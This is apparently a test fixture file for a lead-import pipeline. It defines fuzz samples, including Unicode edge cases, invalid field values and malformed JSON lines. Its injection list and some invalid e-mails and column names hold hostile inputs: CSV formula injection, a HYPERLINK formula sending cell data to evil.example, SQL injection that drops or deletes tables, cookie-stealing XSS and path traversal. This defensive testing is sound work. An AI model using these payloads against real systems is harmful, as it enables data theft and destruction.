/**
 * The sample values of the input suite's generators (test/support/lead-fuzz.ts): hostile text that
 * is still a valid name or company, values that make a field invalid, and lines that are not leads.
 */
import type { LEAD_FIELDS } from '../../src/ingest/index.js';
import { DAY } from './world.js';

type LeadField = (typeof LEAD_FIELDS)[number];
type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Value = Json | undefined;

export const NOW_ISO = '2026-11-20T12:00:00Z';
export const NOW = Date.parse(NOW_ISO);
/** The readers' record limit (src/ingest/source-row.ts), in UTF-16 code units. */
export const RECORD_LIMIT = 64 * 1024;

/** Valid text: scripts, directions, emoji, combining marks, look-alikes. */
export const UNICODE_SAMPLES = [
  'Zoë Ångström-Ørsted',
  'محمد بن راشد',
  'שרה לוי',
  '\u202eevil override\u202c Bob',
  '李小龍 (Bruce)',
  '김민준',
  'देवनागरी नाम',
  '👩‍👩‍👧‍👦 Family Account',
  'Zalgo Z̸̢̛̖a̵l̷g̶o̸ Inc',
  'e\u0301\u0301\u0301 stacked',
  '𝕳𝖊𝖑𝖑𝖔 Fraktur',
  'zero\u200bwidth\u200djoiner',
  'İstanbul Iıİi',
  'Straße ß ﬀ',
  '\ufffd replacement',
  'Ｆｕｌｌｗｉｄｔｈ',
];
export const INJECTION_SAMPLES = [
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "Robert'); DROP TABLE leads;--",
  "' OR '1'='1' --",
  '1; DELETE FROM audit_log WHERE 1=1; --',
  '" OR ""="',
  "x' UNION SELECT name, email FROM leads --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally.
  '{{7*7}} ${7*7} #{7*7}',
  '%s%s%s%n',
  '../../../etc/passwd',
  '__proto__',
  'constructor',
];
export const LONE_SURROGATE_SAMPLES = ['Lone \ud800 high', 'lone low \udc00 end', '\udfff\ud800 swapped'];

/** The e-mail pool's parts: every address they make is valid (zod's e-mail rule). */
export const LOCAL_WORDS = ['ingrid.valkyrie', "o'neil", 'a_b-c', 'x+tag', 'bjorn.ironside', 'sigrid'];
export const DOMAINS = [
  'fjord-mail.example',
  'mail.example.org',
  'xn--bcher-kva.example',
  'sub.domain.example.co.uk',
];

/** Values that make a field invalid, whatever the rest of the row (CSV: text only; NUL is a file-level error). */
const CSV_INVALID: Record<LeadField, Value[]> = {
  external_id: ['E'.repeat(129), 'id\nwith a line break', 'id\u0007bell'],
  name: [
    '',
    '   ',
    'Ann\u0001e Control',
    'Line\nBreak Name',
    'Carriage\rReturn Name',
    'Tab\tInside',
    'Del\u007fName',
  ],
  email: [
    '',
    '   ',
    'plainaddress',
    'no-at.example.com',
    'user@localhost',
    'two@@signs.example',
    'two words@space.example',
    'josé.unicode@accent.example',
    '<script>alert(1)</script>@xss.example',
    "' OR 1=1 --@sqli.example",
    '=cmd|calc@formula.example',
    `${'a'.repeat(250)}@long.example`,
    '.leadingdot@dot.example',
    'double..dot@dot.example',
  ],
  phone: [
    'call me maybe',
    '12345',
    '1234567890123456',
    '+1 555 0100 ext. 5',
    '<b>5550100</b>',
    '1 '.repeat(21),
  ],
  company: ['C'.repeat(201), 'Multi\nLine Company', 'Bell\u0007Company'],
  score: ['high', '101', '-1', '50.5', '1e2', '', ' ', '0x32', '１０', '50%', '1000'],
  source_timestamp: [
    '',
    'yesterday',
    '2026-11-19T10:00:00',
    '2026-02-30',
    '2026-13-01T00:00:00Z',
    '19/11/2026',
    '1795000000000',
    '2026-11-19T25:00:00Z',
    new Date(NOW + 2 * DAY).toISOString(),
    '2026-11-20T12:05:00+00:00',
  ],
  value: ['-1', 'abc', '1e3', '1,000', '1000000001', '.5', '5.', '$100', 'NaN', 'Infinity'],
};
const JSONL_INVALID: Record<LeadField, Value[]> = {
  external_id: [...CSV_INVALID.external_id, 'nul\u0000id', 123, true, [], { id: 1 }],
  name: [...CSV_INVALID.name, 'Nul\u0000Name', undefined, null, 42, true, [], { first: 'A' }, ['A', 'B']],
  email: [...CSV_INVALID.email, undefined, null, 12345, true, [], { at: 'x' }, ['someone@list.example']],
  phone: [...CSV_INVALID.phone, 4712345678, true, [], { n: 1 }],
  company: [...CSV_INVALID.company, 7, true, [], {}],
  score: [...CSV_INVALID.score, undefined, null, 50.5, 101, -1, true, [], {}, '50.0', 1e21],
  source_timestamp: [
    ...CSV_INVALID.source_timestamp,
    undefined,
    null,
    1.5,
    -5,
    0,
    true,
    [],
    {},
    NOW + 2 * DAY,
  ],
  value: [...CSV_INVALID.value, -1, 1e10, true, [], {}, '-5'],
};
export const INVALID_VALUES: Record<'csv' | 'jsonl', Record<LeadField, Value[]>> = {
  csv: CSV_INVALID,
  jsonl: JSONL_INVALID,
};

/** JSONL lines that are not a lead object: other JSON values, or not JSON at all. */
export const NOT_JSON_OBJECTS = [
  '[]',
  '[{"name":"In An Array","email":"array.row@json.example"}]',
  '"string.row@json.example"',
  '42',
  'null',
  'true',
  '{"name": NaN}',
  "{'name':'Single Quotes','email':'single.quote@json.example'}",
  '{"score":70,}',
  '{"email":"no.comma@json.example" "phone":"+47 912 34 567"}',
  '{"name":"raw\rcarriage return"}',
];

/** JSONL keys the product does not use: ignored, never a reason to reject (nor a prototype to pollute). */
export const EXTRA_KEYS = [
  'notes',
  '__proto__',
  'constructor',
  'toString',
  'Score',
  'EMAIL',
  ' name',
  'ñame',
  'tags',
];

/** CSV columns the product does not use. */
export const EXTRA_COLUMNS = [
  'notes',
  'Lead Source',
  'utm_campaign',
  '=HYPERLINK("http://evil.example")',
  'Ünïcødé 列',
];
